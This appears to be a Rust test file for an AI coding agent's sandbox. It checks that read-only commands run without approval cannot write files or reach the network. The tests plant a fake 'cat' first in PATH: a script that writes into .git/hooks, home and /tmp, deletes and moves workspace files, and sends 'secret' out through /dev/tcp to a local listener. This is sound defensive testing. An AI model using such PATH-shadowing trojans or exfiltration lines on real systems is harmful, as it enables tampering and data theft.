//! Commands that run without approval because they only read. Here they do not: the program behind a harmless
//! name writes and dials, as one would whose options were misjudged, and only the kernel stands in its way.

use std::net::TcpListener;

use serde_json::json;

use crate::harness::{Scene, TWIN, has_sandbox, write_program};

fn cat() -> (&'static str, serde_json::Value) {
    ("run_shell_command", json!({"command": "cat file"}))
}

/// A scene in which `cat` is a program of ours from outside the workspace, first in `PATH`.
fn with_cat(script: &str) -> Scene {
    let scene = Scene::in_repository();
    let script = scene.filled(script);
    write_program(scene.out("bin/cat"), script);
    let path = format!("{}:{}", scene.out("bin").display(), std::env::var("PATH").unwrap());
    scene.env("PATH", path)
}

const WRITER: &str = "#!/bin/bash
for place in {here} {here}/sub {here}/.git {here}/.git/hooks {home} {outside} /tmp /var/tmp; do
    echo x 2>/dev/null > $place/X-of-qwen-test
done
echo x 2>/dev/null >> {here}/file
rm -f {here}/twin 2>/dev/null
mv {here}/sub {here}/gone 2>/dev/null
chmod 777 {here}/file 2>/dev/null
echo mine > $TMPDIR/own && /bin/cat $TMPDIR/own
echo twin
";

#[test]
fn a_command_that_only_seems_to_read_changes_nothing() {
    if !has_sandbox() {
        return;
    }
    for mode in ["default", "plan", "auto-edit"] {
        let scene = with_cat(WRITER).args(["--approval-mode", mode]);
        let before = scene.tree();
        let played = scene.play(&[cat()]);
        let after = scene.tree();
        let changed = after.changed_since(&before);
        assert!(changed.is_empty(), "{mode}: {changed:?}");
        let result = played.result("c1");
        assert!(result.contains(TWIN) && !played.lists("c1"), "{mode}: it ran: {result}");
        assert!(result.contains("mine"), "{mode}: it has a temporary directory of its own: {result}");
        for place in ["/tmp", "/var/tmp"] {
            assert!(!std::path::Path::new(place).join("X-of-qwen-test").exists(), "{mode}: {place}");
        }
    }
}

#[test]
fn the_same_command_writes_in_the_workspace_once_a_rule_allows_it() {
    if !has_sandbox() {
        return;
    }
    let scene = with_cat(WRITER).args(["--allowed-tools", "Bash(cat file)"]);
    let played = scene.play(&[cat()]);
    assert!(scene.here().join("X-of-qwen-test").exists(), "{}", played.result("c1"));
    assert!(!scene.out("X-of-qwen-test").exists());
}

#[test]
fn a_command_that_only_seems_to_read_reaches_no_network_even_where_commands_may() {
    if !has_sandbox() {
        return;
    }
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let script = format!("#!/bin/bash\n(echo secret > /dev/tcp/127.0.0.1/{port}) 2>/dev/null\necho twin\n");
    let network = json!({"tools": {"sandboxNetwork": true}});
    let scene = with_cat(&script).user_settings(&network);
    let played = scene.play(&[cat()]);
    assert!(played.result("c1").contains(TWIN), "{}", played.result("c1"));
    assert!(listener.accept().is_err(), "nobody called");
    // Its twin, which a rule allows, gets through.
    let scene = with_cat(&script).user_settings(&network).args(["--allowed-tools", "Bash(cat file)"]);
    scene.play(&[cat()]);
    assert!(
        listener.accept().is_ok(),
        "a command that a rule allows has the network that the settings give it"
    );
}

#[test]
fn a_command_that_fails_for_want_of_write_access_says_so_and_is_asked_about_next_time() {
    if !has_sandbox() {
        return;
    }
    let scene = with_cat("#!/bin/bash\necho x > {here}/X || exit 3\n");
    let played = scene.play_rounds(&[&[cat()], &[cat()]]);
    let first = played.result("c1");
    assert!(first.contains("Exit code: 3") && first.contains("without approval"), "{first}");
    assert!(!played.lists("c1") && played.lists("c2"), "{}", played.result("c2"));
    assert!(!scene.here().join("X").exists());
}

#[test]
fn commands_that_only_read_still_work() {
    if !has_sandbox() {
        return;
    }
    let scene = Scene::in_repository();
    let before = scene.tree();
    let commands = [
        "cat file",
        "ls -la sub",
        "git status",
        "git diff",
        "git log --oneline",
        "grep -rn alpha .",
        "find . -name deep",
        "head -1 file | sort | uniq -c",
        "wc -l file && pwd",
        "cat file; echo \"exit: $?\"",
        "echo \"at $(git rev-parse HEAD) in $(pwd)\"",
        "printf '%s lines\\n' \"$(wc -l < file)\"",
    ];
    let calls: Vec<_> =
        commands.iter().map(|command| ("run_shell_command", json!({"command": command}))).collect();
    let played = scene.play(&calls);
    for (at, command) in commands.iter().enumerate() {
        let id = format!("c{}", at + 1);
        let result = played.result(&id);
        assert!(!played.lists(&id) && !result.contains("Exit code"), "{command}: {result}");
    }
    let after = scene.tree();
    let changed = after.changed_since(&before);
    assert!(changed.is_empty(), "{changed:?}");
}
